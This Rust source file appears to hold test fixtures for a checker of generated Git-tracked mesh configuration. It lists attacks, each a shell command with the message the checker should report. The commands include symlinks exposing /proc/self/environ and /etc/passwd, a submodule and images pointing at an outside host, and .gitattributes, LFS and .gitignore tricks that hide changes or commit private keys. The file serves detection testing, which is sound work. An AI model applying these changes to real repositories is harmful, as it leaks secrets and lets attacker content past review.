//! What Git can keep beside bytes: links, modes, attributes, submodules.

use super::{Attack, Step};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "replaces a script by a link to `/proc/self/environ`",
        gain: "the comment on the pull request shows the secrets of the job",
        step: Step::Diff,
        says: &["out/west/remote-secrets.sh: is a symbolic link"],
        change: "ln -sf /proc/self/environ out/west/remote-secrets.sh",
    },
    Attack {
        name: "replaces the README by a link to a file of the machine",
        gain: "its contents",
        step: Step::Diff,
        says: &["out/README.md: is a symbolic link"],
        change: "ln -sf /etc/passwd out/README.md",
    },
    Attack {
        name: "replaces a script by a link to the same script elsewhere in the repository",
        gain: "a later edit that is not in the tree",
        step: Step::UpToDate,
        says: &["out/install.sh: is a symbolic link"],
        change: "mv out/install.sh tool.sh; ln -s ../tool.sh out/install.sh",
    },
    Attack {
        name: "replaces a certificate by a link to that of another cluster",
        gain: "one file that decides for two clusters",
        step: Step::UpToDate,
        says: &["out/west/20-cacerts/root-cert.pem: is a symbolic link"],
        change: "ln -sf ../../east/20-cacerts/root-cert.pem out/west/20-cacerts/root-cert.pem",
    },
    Attack {
        name: "replaces the directory of a cluster by a link",
        gain: "the next build writes keys elsewhere",
        step: Step::UpToDate,
        says: &["out/west: is a symbolic link"],
        change: "mv out/west elsewhere; ln -s ../elsewhere out/west",
    },
    Attack {
        name: "replaces the lock by a link",
        gain: "a lock that changes later",
        step: Step::UpToDate,
        says: &["out/meshgen.lock: is a symbolic link"],
        change: "mv out/meshgen.lock lock; ln -s ../lock out/meshgen.lock",
    },
    Attack {
        name: "replaces the directory of a cluster by a submodule",
        gain: "files of another repository",
        step: Step::UpToDate,
        says: &["the certificate of `west` is not the one that meshgen wrote"],
        change: r#"
            git rm -rq out/west
            git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),out/west"
            printf '[submodule "west"]\npath = out/west\nurl = https://203.0.113.9/west\n' >.gitmodules
            mkdir -p out/west
        "#,
    },
    Attack {
        name: "makes a certificate executable",
        gain: "a change that reviews do not show",
        step: Step::UpToDate,
        says: &["differs  west/20-cacerts/ca-cert.pem"],
        change: "chmod +x out/west/20-cacerts/ca-cert.pem",
    },
    Attack {
        name: "makes a script not executable",
        gain: "an installation that stops",
        step: Step::UpToDate,
        says: &["differs  verify.sh"],
        change: "chmod -x out/verify.sh",
    },
    Attack {
        name: "hides a second root with a `.gitattributes` of the cluster",
        gain: "reviews do not show the certificate",
        step: Step::UpToDate,
        says: &["west/20-cacerts/root-cert.pem differs from meshgen.lock"],
        change: "
            echo '* -diff linguist-generated' >out/west/.gitattributes
            cat $ATTACKER/out/west/20-cacerts/root-cert.pem >>out/west/20-cacerts/root-cert.pem
        ",
    },
    Attack {
        name: "hides a changed manifest with a `.gitattributes` of the repository",
        gain: "reviews do not show the manifest",
        step: Step::UpToDate,
        says: &["edited  west/60-zipkin/zipkin.yaml"],
        change: "
            echo 'out/** -diff -text linguist-vendored' >.gitattributes
            sed -i 's|image: .*|image: 203.0.113.9/zipkin|' out/west/60-zipkin/zipkin.yaml
        ",
    },
    Attack {
        name: "hides the lock with the tree's own `.gitattributes`, and corrects the digest",
        gain: "reviews do not show the lock any more",
        step: Step::UpToDate,
        says: &["differs  .gitattributes"],
        change: "echo 'meshgen.lock -diff linguist-generated' >>out/.gitattributes; correct .gitattributes",
    },
    Attack {
        name: "lets Git convert the line ends of scripts",
        gain: "other bytes in a clone than in the commit",
        step: Step::UpToDate,
        says: &["line ends converted  west/remote-secrets.sh"],
        change: "echo '*.sh text eol=crlf' >out/west/.gitattributes",
    },
    Attack {
        name: "lets Git convert the encoding of scripts",
        gain: "other bytes in a clone than in the commit",
        step: Step::UpToDate,
        says: &["edited  west/remote-secrets.sh"],
        change: "
            echo '*.sh text working-tree-encoding=UTF-16' >out/west/.gitattributes
            iconv -f UTF-8 -t UTF-16 out/west/remote-secrets.sh >converted
            cat converted >out/west/remote-secrets.sh
            rm converted
        ",
    },
    Attack {
        name: "replaces a script by a pointer of Git LFS",
        gain: "a script from a server that nobody reviews",
        step: Step::UpToDate,
        says: &["edited  install.sh"],
        change: r"
            printf 'version https://git-lfs.github.com/spec/v1\noid sha256:%064d\nsize 12\n' 0 >out/install.sh
            echo 'install.sh filter=lfs' >out/west/.gitattributes
        ",
    },
    Attack {
        name: "lets Git take keys, in the tree's `.gitignore`, and corrects the digest",
        gain: "the next person who builds commits the keys",
        step: Step::UpToDate,
        says: &["differs  .gitignore"],
        change: "echo '!*/20-cacerts/ca-key.pem' >>out/.gitignore; correct .gitignore",
    },
    Attack {
        name: "lets Git take a key, in a `.gitignore` of the cluster",
        gain: "the next person who builds commits the key",
        step: Step::UpToDate,
        says: &["obeyed by Git, kustomize, Argo CD or Flux  west/.gitignore"],
        change: "echo '!ca-key.pem' >out/west/.gitignore",
    },
    Attack {
        name: "lets Git filter the scripts of a cluster",
        gain: "other bytes in a clone than in the commit",
        step: Step::UpToDate,
        says: &["obeyed by Git, kustomize, Argo CD or Flux  west/.gitattributes"],
        change: "echo '*.sh filter=lfs' >out/west/.gitattributes",
    },
    Attack {
        name: "adds parameters for Argo CD beside a kustomization",
        gain: "another image in a cluster",
        step: Step::UpToDate,
        says: &["obeyed by Git, kustomize, Argo CD or Flux  west/60-zipkin/.argocd-source.yaml"],
        change: "echo 'kustomize: {images: [zipkin=203.0.113.9/zipkin]}' >out/west/60-zipkin/.argocd-source.yaml",
    },
    Attack {
        name: "adds a kustomization to the directory of a cluster",
        gain: "any object in a cluster",
        step: Step::UpToDate,
        says: &["obeyed by Git, kustomize, Argo CD or Flux  west/kustomization.yaml"],
        change: "echo 'resources: [https://203.0.113.9/x]' >out/west/kustomization.yaml",
    },
    Attack {
        name: "adds a kustomization with another name beside that of the tree",
        gain: "a directory that nothing can apply",
        step: Step::UpToDate,
        says: &["obeyed by Git, kustomize, Argo CD or Flux  west/60-zipkin/kustomization.yml"],
        change: "echo 'resources: [https://203.0.113.9/x]' >out/west/60-zipkin/kustomization.yml",
    },
    Attack {
        name: "commits a private key under a name of its own",
        gain: "who builds trusts a key that everybody has",
        step: Step::UpToDate,
        says: &["Git tracks `out/mine/ca-key.pem`"],
        change: "mkdir out/mine; echo a key >out/mine/ca-key.pem; git add -f out/mine/ca-key.pem",
    },
];
